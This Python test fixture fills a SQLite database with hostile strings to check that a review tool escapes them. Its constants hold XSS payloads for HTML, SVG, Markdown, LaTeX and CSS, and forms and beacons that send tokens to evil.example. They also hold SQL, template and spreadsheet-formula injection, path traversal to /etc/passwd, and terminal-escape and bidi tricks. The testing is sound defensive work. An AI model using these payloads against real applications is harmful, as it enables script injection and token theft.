"""Texts that want to be more than text, and a database with one of them in every field.

What a newcomer gets wrong: the database may be a stranger's. So not only what models write is
hostile here, but also names, ids and what was edited by hand. Every attack that runs sets
`window.hacked`, every one that reaches out goes to `evil.example`.
"""

import asyncio
import sqlite3
from collections.abc import Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from functools import partial
from itertools import count
from pathlib import Path

from storage import ids, rows
from storage.journal import SqliteJournal
from storage.people.acts import Act, act_row
from storage.records import (
    Assignment,
    Attempt,
    CallError,
    CallSite,
    Check,
    ExpertSeed,
    Grade,
    Lesson,
    Message,
    ModelCall,
    Reply,
    Request,
    Run,
    Skill,
    Slip,
    Status,
    Task,
    Trajectory,
    Verdict,
)
from storage.store import Store
from storage.worth import worth

_DO = "window.hacked=1"
_IMG = f"<img src=x onerror={_DO}>"
_EVIL = "http://evil.example"

MARKUP = (
    f"<script>{_DO}</script>",
    f"<ScRiPt/x>{_DO}</sCrIpT >",
    f"</script><script>{_DO}</script>",
    f'"}}]</script><script>{_DO}</script>',
    f"</title><script>{_DO}</script>",
    f"</textarea>{_IMG}",
    f"</style><script>{_DO}</script>",
    f"--><script>{_DO}</script><!--",
    f"]]>{_IMG}<![CDATA[",
    f"&lt;script&gt;{_DO}&lt;/script&gt; &amp;lt;img src=x onerror={_DO}&amp;gt;",
    f'" onmouseover="{_DO}" autofocus onfocus="{_DO}" x="',
    f"' onmouseover='{_DO}' autofocus onfocus='{_DO}' x='",
    f"` onmouseover=`{_DO}` x=y onfocus={_DO} ",
    _IMG,
    f"<img/src=`x`onerror={_DO}>",
    f'<img src="{_EVIL}/pixel.png" srcset="{_EVIL}/two.png 2x">',
    f"<input autofocus onfocus={_DO}><select autofocus onfocus={_DO}>",
    f"<details open ontoggle={_DO}><summary>x</summary></details>",
    f"<video><source onerror={_DO}></video><audio src=x onerror={_DO}>",
    f"<body onload={_DO} onpageshow={_DO}><marquee onstart={_DO}>",
    f"<iframe srcdoc='<script>parent.hacked=1</script>'></iframe><iframe src=javascript:{_DO}>",
    f"<object data='data:text/html,<script>{_DO}</script>'></object><embed src={_EVIL}/x.swf>",
    f'<base href="{_EVIL}/"><link rel=stylesheet href={_EVIL}/x.css>',
    f'<meta http-equiv=refresh content="0;url={_EVIL}/">',
    f"<form action={_EVIL}/ method=post><button name=token>Accept</button></form>",
    f"</form><form action={_EVIL}/><input name=verdict value=accepted formaction={_EVIL}/>",
    "<form name=body><input name=children><a id=token name=token></a><img name=querySelector>",
    f"<template>{_IMG}</template><noscript><p title='</noscript>{_IMG}'></noscript>",
    f"<xmp>{_IMG}</xmp><plaintext>",
    f'<svg onload={_DO}><a xlink:href="javascript:{_DO}"><text y=9>x</text></a></svg>',
    f"<svg><script>{_DO}</script><animate onbegin={_DO} attributeName=x dur=1s></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_DO}>#x'/><style>{_IMG}</style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_DO}"
    "&gt;'></table></math>",
    f'<math><maction actiontype="statusline#{_EVIL}" xlink:href="javascript:{_DO}">x</maction>',
    f'<math href="javascript:{_DO}"><annotation-xml encoding="text/html">{_IMG}</annotation-xml>',
)
"""HTML, SVG and MathML, and what gets out of where text stands in them."""
LINKS = (
    f"[click](javascript:{_DO})",
    f"[click](JaVaScRiPt:{_DO} 'x')",
    f"[click](&#106;avascript&colon;{_DO})",
    f"[click](java\tscript:{_DO}) [click](<java\nscript:{_DO}>) [click](\x01javascript:{_DO})",
    f"[click](data:text/html,<script>{_DO}</script>) [click](vbscript:{_DO})",
    f"[click](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) <javascript:{_DO}>",
    f"<{_EVIL}/auto> {_EVIL}/bare www.evil.example",
    f"[one]\n\n[one]: javascript:{_DO}\n\n[two][]\n\n[two]: {_EVIL} '\" onclick=\"{_DO}'",
    f"![x]({_EVIL}/pixel.png) ![y](data:image/svg+xml,<svg/onload={_DO}>)",
    f'![" onerror="{_DO}](x "\\" onmouseover=\\"{_DO}")',
    "[x](//evil.example/) [x](\\\\evil.example\\x) [x](/\\evil.example) [x](ftp://evil.example/)",
    "[x](file:///etc/passwd) [x](/review) [x](../../acts/v1/withdraw) [x](?status=accepted)",
    f'<a href="javascript:{_DO}">x</a> <a href="{_EVIL}" target=_blank ping={_EVIL}/ping>y</a>',
)
"""Markdown and HTML that would lead elsewhere."""
FENCES = (
    f"```html\n<script>{_DO}</script>\n```",
    f'```" onmouseover="{_DO}" x="\ncode\n```',
    f"```<script>{_DO}</script>\ncode\n```",
    f"    </code></pre>{_IMG}",
    f"``</code>{_IMG}``",
    f"```python\nprint('''{_IMG}",
    f"| a | b{_IMG} |\n| --- | :-: |\n| [x](javascript:{_DO}) | {_IMG} |",
    f"# {_IMG} {{#token onclick={_DO}}}\n\n> - 1. {_IMG}",
)
"""Code, tables and headings, which people like to forget."""
MATHS = (
    rf"$\href{{javascript:{_DO}}}{{x}}$ \(\url{{{_EVIL}}}\)",
    rf"$\text{{<script>{_DO}</script>}}$ $$\mathrm{{{_IMG}}}$$",
    rf"$\color{{red;background:url({_EVIL}/tex)}}{{x}}$ $\style{{x:y}}{{z}}$",
    rf"$$\begin{{array}}{{{_IMG}}} a \end{{array}}$$ $\class{{x\" onclick=\"{_DO}}}{{y}}$",
    rf"$\unicode{{60}}\char`\<$ $\htmlId{{token}}{{x}} \includegraphics{{{_EVIL}/x.png}}$",
    r"$\def\x{\x}\x$ $\frac{\frac{$ $$\left( \right] \begin{matrix}$$ $\input{/etc/passwd}$",
)
"""LaTeX."""
STYLES = (
    "<style>*{display:none!important}</style>",
    f'<p style="position:fixed;inset:0;background:url({_EVIL}/css)">x</p>',
    f"}} body {{ background: url({_EVIL}/inline) }} x {{",
    f"red;background:url('{_EVIL}/value');x:expression({_DO})",
)
TEMPLATES = (
    "{{ 7191 * 7193 }} {% include '/etc/passwd' %} {{ ''.__class__.__mro__ }} {{ config }}",
    "${7191 * 7193} #{7191 * 7193} <%= 7191 * 7193 %> {# x #} {%- raw -%}",
    "[bold red]x[/bold red] [link=http://evil.example]y[/link] [/] [@click=app.quit]z[/]",
)
"""The product of the two numbers is PRODUCT: it stands nowhere unless something was evaluated."""
PRODUCT = str(7191 * 7193)
UNSEEN = (
    "\x1b[2J\x1b[1;1H\x1b[31mACCEPTED\x1b[0m \x9b31m \x1b[8mhidden",
    "\x1b]0;title\x07 \x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\ \x1b]52;c;aGk=\x07 \x1bc",
    "wrong\rright\x08\x08\x08 a\x0bb\x0cc \x07\x7f \x00 after",
    "Answer: \u202e001\u202c is 1\u200f\u200e \u2066x\u2069 \u2067y \u061c",
    "pass\u200bword \u2060\ufeff\u00ad \U000e0041\U000e007f \ufff9a\ufffab\ufffb \u3164 \ufffe",
    f"x\u2028{_DO}\u2029{_DO}\u0085 \U0001f468\u200d\U0001f469\u200d\U0001f467 z\u0335\u0321\u0322",
)
"""What a terminal obeys, and what a reader cannot see."""
QUERIES = (
    "'; DROP TABLE runs; -- \" OR 1=1 % _ \\",
    '" OR NEAR( * AND NOT ^ {question} : text-x',
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)\t-1+1",
    "../../../../../../etc/passwd ..%2f..%2fetc%2fpasswd C:\\..\\x",
    "a/b?c=d&e=f#g %00 %2e%2e/ ; , + %0d%0aSet-Cookie: x=1",
    "wide" * 300,
    "null undefined NaN true __proto__ constructor",
)
"""SQL, full-text search, spreadsheets, paths and addresses, and a word without an end."""
ATTACKS = (
    *MARKUP, *LINKS, *FENCES, *MATHS, *STYLES, *TEMPLATES, *UNSEEN, *QUERIES,
)  # fmt: skip
PLAIN = (
    "# A heading\n\nSome *words* with **weight**, ~~gone~~, `code` and a line  \nbreak.",
    "## Two\n\n1. one\n2. two\n   - three\n   - four\n\n> quoted\n\n---\n\nEnd.",
    "| a | b |\n| --- | :-: |\n| 1 | 2 |\n\n### Three\n\n#### Four\n\n##### Five\n\n###### Six",
    '```python\ndef f(x: int) -> str:\n    """Say."""\n    return f"{x}" + \'y\'  # why\n```',
    "```html\n<p class='x'>text</p>\n```\n\n    indented\n\n```\nbare\n```",
    r"$\frac{1}{2} + \sqrt{x_1^2}$ and \(a < b\), $\text{so}$ $\color{red}{x}$ $\mathrm{rate}$.",
    r"$$\begin{array}{c} a \\ b \end{array}$$ $\begin{matrix}1&2\end{matrix}$ $\left(x\right]$",
    "[a link](https://example.org/page) <https://example.org> ![a picture](picture.png)",
    "[one][1] and zero\u200bwidth, \u202ebidi\u202c, \x1b[31mred\x1b[0m\n\n[1]: https://x.example",
    "Broken $\\frac{$ and $\\nonsense{x}$, \\[ \\sum_{i=1}^{n} i \\] and a\ttab.",
)
"""What people and models mean when they mean no harm, in every form that the pages set."""


@dataclass(frozen=True)
class Voice:
    """Texts for a database: the same structure comes of every voice."""

    names: Sequence[str]
    """Of skills, models and the like; all different."""
    texts: Sequence[str]

    def name(self, n: int) -> str:
        return self.names[n % len(self.names)]

    def text(self, n: int, most: int = 6) -> str:
        """Return several texts as one, beginning with the n-th bundle."""
        chosen = (self.texts[(n * most + i) % len(self.texts)] for i in range(most))
        return "\n\n".join(chosen)


HOSTILE = Voice(ATTACKS, ATTACKS)
HARMLESS = Voice([f"plain {n}" for n in range(len(ATTACKS))], PLAIN)
EPISODES = -(-len(ATTACKS) // 6)
"""So many that every attack stands in every field of long text."""
RUN = ids.run_id({"of": "strangers"})
_STATUSES: tuple[Status, ...] = ("rejected", "accepted", "unscored")


def database(path: Path, voice: Voice) -> Path:
    """Write a database in which every text is one of the voice's, and return its path."""
    with ThreadPoolExecutor(1) as apart:  # for the thread of a browser's tests has a loop already
        apart.submit(asyncio.run, _write(path, voice)).result()
    return path


def escape_by_hand(path: Path) -> None:
    """Edit a database as a stranger could: halves of surrogates, which no store would write."""
    with sqlite3.connect(path) as db:
        db.execute("UPDATE verdicts SET checks = replace(checks, 'evidence\":\"', ?)",
                   ('evidence":"\\ud800\\udfff\\ud800',))  # fmt: skip
        db.execute("UPDATE attempts SET slips = replace(slips, 'misconception\":\"', ?)",
                   ('misconception":"\\udead',))  # fmt: skip
    db.close()


async def _write(path: Path, voice: Voice) -> None:
    with Store.open(path) as store:
        seeds = [_seed(voice, n) for n in range(3)]
        await store.begin(_run(voice, seeds))
        await store.add_expert_seeds(seeds)
        journal = SqliteJournal(store.writer)
        for n in range(EPISODES):
            one = _trajectory(voice, n, seeds[n % 3].id)
            await store.assign(RUN, one.assignment)
            for site, call in _calls(voice, one):
                await journal.keep(call, site)
            error = CallError(
                request_digest=f"sha256:{n}", kind="refused", message=voice.text(n), try_number=1
            )
            await journal.fail(error, CallSite(trajectory_id=one.id, seed=n, role="student"))
            for act in _acts(voice, one):
                await store.writer.run(partial(_insert, act_row(act)))  # what landing then follows
            await store.land(one)


def _run(voice: Voice, seeds: Sequence[ExpertSeed]) -> Run:
    names = list(voice.names)
    skills = [
        Skill(name=name, after=tuple(names[max(0, n - 2) : n - 1]), levels=2, about=voice.text(n))
        for n, name in enumerate(names)
    ]
    config = {
        "teacher": {"kind": "chat", "model": voice.name(1), "base_url": voice.name(2)},
        "student": {"kind": "chat", "model": voice.name(3), "endpoint": voice.name(4)},
        "critic": {"kind": "chat", "model": voice.name(5)},
        voice.name(6): voice.name(7),
    }
    return Run(
        id=RUN, identity={"of": voice.name(8)}, config=config, skills=tuple(skills),
        expert_seeds=tuple(seed.id for seed in seeds), seed=7, episodes=EPISODES + 5,
        versions={"lyceum": voice.name(9), "teacher": voice.name(10), voice.name(11): "1"},
        created_at="2026-01-01T00:00:00.000+00:00", ended=voice.text(2),
    )  # fmt: skip


def _seed(voice: Voice, n: int) -> ExpertSeed:
    fields = {
        "example": voice.text(n), "reference": voice.text(n + 1), "passage": voice.text(n + 2),
        "skill": voice.name(n), "author": voice.name(n + 3), "licence": voice.name(n + 4),
    }  # fmt: skip
    return ExpertSeed(id=ids.expert_seed_id(fields), **fields)


def _lesson(voice: Voice, n: int, seed: str) -> Lesson:
    task = Task(question=voice.text(n), instruction=voice.text(n + 1), answer_pattern=r"(.*)")
    lesson = Lesson(
        id="", skill=voice.name(n * 7), level=1 + n % 2, language=voice.name(n * 5 + 1), task=task,
        reference=voice.text(n + 2), steps=(voice.text(n + 3), voice.text(n + 4)),
        verifier=voice.name(n * 7 + 2), data={voice.name(n): voice.text(n)}, expert_seed=seed,
        made_by=f"chat/{voice.name(n * 7 + 3)}",
    )  # fmt: skip
    return lesson.model_copy(update={"id": ids.lesson_id(lesson)})


def _trajectory(voice: Voice, n: int, seed: str) -> Trajectory:
    own = ids.trajectory_id(RUN, n)
    lesson = _lesson(voice, n, seed)
    attempts, verdicts = [], []
    for step, (idx, revision) in zip(count(1), ((0, 0), (1, 0), (0, 1)), strict=False):
        verdict = _STATUSES[(n + step * (n % 2)) % 3]
        attempts.append(_attempt(voice, n + 3 * step, own, lesson.id, (idx, revision)))
        verdicts.append(_verdict(voice, n + 2 * step, attempts[-1].id, verdict))
    broken = n % 4 == 3
    status, reason, reward = worth(verdicts, failed=broken)
    return Trajectory(
        id=own, run_id=RUN,
        assignment=Assignment(
            n=n, skill=lesson.skill, level=lesson.level, language=lesson.language, seed=n,
            expert_seed=seed, practice={voice.name(n): 1},
        ),
        lesson=lesson, attempts=tuple(attempts), verdicts=tuple(verdicts),
        status=status, reward=reward, reason=reason and voice.name(n * 3),
        findings=(voice.text(n + 5), voice.text(n + 6)),
        error=voice.text(n + 7) if broken else None,
    )  # fmt: skip


def _attempt(voice: Voice, n: int, own: str, lesson: str, place: tuple[int, int]) -> Attempt:
    idx, revision = place
    return Attempt(
        id=ids.attempt_id(own, revision, idx), trajectory_id=own, lesson_id=lesson, idx=idx,
        revision=revision, text=voice.text(n), reasoning=voice.text(n + 1),
        answer=voice.text(n + 2, 1), finish_reason=voice.name(n * 3),
        slips=(Slip(misconception=voice.name(n * 3 + 1), step=1),),
        made_by=f"chat/{voice.name(n * 3 + 2)}", error=voice.text(n) if n % 5 == 0 else None,
    )  # fmt: skip


def _verdict(voice: Voice, n: int, attempt: str, status: Status) -> Verdict:
    scored = status in ("accepted", "rejected")
    return Verdict(
        id=ids.verdict_id(attempt, 0), attempt_id=attempt, status=status,
        reward=float(status == "accepted") if scored else None,
        rung=("program", "judge")[n % 2] if scored else None,
        reason=None if status == "accepted" else voice.name(n * 5),
        checks=(Check(verifier=voice.name(n * 5 + 1), finding="failed", evidence=voice.text(n + 1),
                      limits={voice.name(n): voice.name(n + 1)}),),
        grades=(Grade(criterion=voice.name(n * 5 + 2), weight=0.5, grade=0.5,
                      reason=voice.text(n + 2)),),
        critique=voice.text(n + 3), first_wrong_step=1 if status == "rejected" else None,
        first_wrong_step_rung="program" if status == "rejected" else None,
    )  # fmt: skip


def _insert(row: rows.Row, connection: sqlite3.Connection) -> int:
    return rows.insert(connection, "acts", row)


def _acts(voice: Voice, one: Trajectory) -> list[Act]:
    """Return what people did with every third episode: two verdicts, and one of them withdrawn."""
    n, found = one.assignment.n, []
    if n % 3:
        return []
    gave = (("gave", 1), ("gave", 2), ("withdrew", 1))
    for place, (what, ordinal) in enumerate(gave):
        attempt = one.attempts[0]
        act = Act(
            id=0, token=f"{n} {place}", act=what, run_id=RUN, trajectory_id=one.id,
            attempt_id=attempt.id, attempt_digest=ids.digest(attempt),
            verdict_id=ids.verdict_id(attempt.id, ordinal), ordinal=ordinal,
            person=voice.name(n + ordinal), at="2026-01-02T00:00:00.000+00:00",
            note=voice.text(n + place), blind=True, audit_id=None, status="rejected", reward=0.25,
            reason="wrong", critique=voice.text(n + 1), first_wrong_step=1,
            grades=(Grade(criterion=voice.name(n), weight=1.0, grade=0.25, reason=voice.text(n)),),
        )  # fmt: skip
        found.append(act.model_copy(update={"digest": act.content_digest}))
    return found


def _calls(voice: Voice, one: Trajectory) -> list[tuple[CallSite, ModelCall]]:
    """Return a call of each role, and a second one of the critic's."""
    n = one.assignment.n
    found = []
    for turn, role in enumerate(("teacher", "student", "critic", "critic")):
        text = voice.text(n + turn)
        request = Request(
            endpoint=voice.name(n + turn), model=voice.name(n * 7 + turn), draw=n,
            messages=(
                Message(role="system", content=text),
                Message(role="user", content=voice.text(n + turn + 1)),
                Message(role="assistant", content=voice.text(n + turn + 2)),
            ),
            parameters={"temperature": 0.5, voice.name(n): voice.name(n + 1)},
            response_format={"schema": voice.text(n)},
        )  # fmt: skip
        raw = '{"choices":[{"message":{"content":"\\ud800' + text + '"}}]}'
        reply = Reply(
            text=text, reasoning=voice.text(n + turn + 3), raw=raw, finish_reason=voice.name(n),
            tokens_in=10, tokens_out=20,
        )  # fmt: skip
        site = CallSite(trajectory_id=one.id, seed=n, role=role, turn=turn)
        digest = ids.request_digest(request)
        call = ModelCall(
            request_digest=digest, request=request, reply=reply, latency_s=0.5, cost_usd=0.01,
            prompt=f"{voice.name(n + 4)}@1 sha256:{'0' * 64}",
        )  # fmt: skip
        found.append((site, call))
    return found
